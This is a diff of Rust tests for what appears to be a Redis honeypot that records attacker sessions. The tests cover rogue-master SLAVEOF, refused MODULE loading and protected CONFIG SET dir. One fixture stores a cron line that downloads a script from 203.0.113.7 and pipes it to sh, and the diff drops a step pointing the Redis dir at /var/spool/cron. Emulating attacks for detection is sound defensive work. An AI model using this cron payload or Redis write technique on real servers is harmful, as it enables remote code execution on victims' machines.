@@ -80,8 +80,16 @@ async fn redis_cli_session_is_recorded_and_slaveof_never_connects() {
     );
     let s = cli(dir.path(), r.addr, &[], Some(&script)).await;
     let out: Vec<&str> = s.stdout.lines().collect();
-    assert_eq!(out[0], "OK", "{}", s.stdout);
-    assert_eq!(&out[1..3], ["dir", "/tmp"]);
+    // Redis 7.0 refuses the protected config, as the real one does; the attempt is
+    // still followed through: SAVE captures the file it meant to write.
+    assert_eq!(
+        out[0],
+        "ERR CONFIG SET failed (possibly related to argument 'dir') - can't set protected config",
+        "{}",
+        s.stdout
+    );
+    // (redis-cli follows an error with a blank line.)
+    assert_eq!(&out[1..4], ["", "dir", "/var/lib/redis"]);
     assert!(s.stdout.contains("role:slave"), "{}", s.stdout);
     assert!(
         s.stdout.contains(&format!("master_port:{rogue_port}")),
@@ -90,7 +98,7 @@ async fn redis_cli_session_is_recorded_and_slaveof_never_connects() {
     );
     assert!(
         s.stdout
-            .contains("ERR Error loading the extension. Please check the server logs."),
+            .contains("ERR MODULE command not allowed. If the enable-module-command option is set to \"local\""),
         "{}",
         s.stdout
     );
@@ -635,12 +643,12 @@ async fn keyspace_is_shared_by_connections_and_survives_a_restart() {
         dir.path(),
         r.addr,
         &[],
-        Some("SET backup1 \"*/2 * * * * root cd1 -fsSL http://203.0.113.7/b.sh | sh\"\nSET session abc EX 3600\nSELECT 3\nSET other db3\nCONFIG SET dir /var/spool/cron\n"),
+        Some("SET backup1 \"*/2 * * * * root cd1 -fsSL http://203.0.113.7/b.sh | sh\"\nSET session abc EX 3600\nSELECT 3\nSET other db3\nCONFIG SET maxmemory-policy allkeys-lru\nRPUSH jobs a b\nHSET h f v\n"),
     )
     .await;
     assert_eq!(
         set.stdout.lines().collect::<Vec<_>>(),
-        ["OK"; 5],
+        ["OK", "OK", "OK", "OK", "OK", "2", "1"],
         "{}",
         set.stdout
     );
@@ -670,11 +678,11 @@ async fn keyspace_is_shared_by_connections_and_survives_a_restart() {
         dir.path(),
         r.addr,
         &[],
-        Some("GET backup1\nTTL session\nDBSIZE\nSELECT 3\nGET other\nCONFIG GET dir\n"),
+        Some("GET backup1\nTTL session\nDBSIZE\nSELECT 3\nGET other\nCONFIG GET maxmemory-policy\nLRANGE jobs 0 -1\nHGETALL h\nTYPE jobs\n"),
     )
     .await;
     let lines: Vec<&str> = out.stdout.lines().collect();
-    assert_eq!(lines.len(), 7, "{}", out.stdout);
+    assert_eq!(lines.len(), 12, "{}", out.stdout);
     assert_eq!(
         lines[0],
         "*/2 * * * * root cd1 -fsSL http://203.0.113.7/b.sh | sh"
@@ -682,7 +690,22 @@ async fn keyspace_is_shared_by_connections_and_survives_a_restart() {
     // The expiry was stored as an absolute time: still counting down, not reset.
     let ttl: i64 = lines[1].parse().unwrap();
     assert!((1..=3600).contains(&ttl), "TTL {ttl}");
-    assert_eq!(&lines[2..], ["2", "OK", "db3", "dir", "/var/spool/cron"]);
+    // Lists and hashes persist too (snapshot v2).
+    assert_eq!(
+        &lines[2..],
+        [
+            "2",
+            "OK",
+            "db3",
+            "maxmemory-policy",
+            "allkeys-lru",
+            "a",
+            "b",
+            "f",
+            "v",
+            "list"
+        ]
+    );
     r.wait_disconnects(1).await;
     r.mgr.shutdown().await;
 }
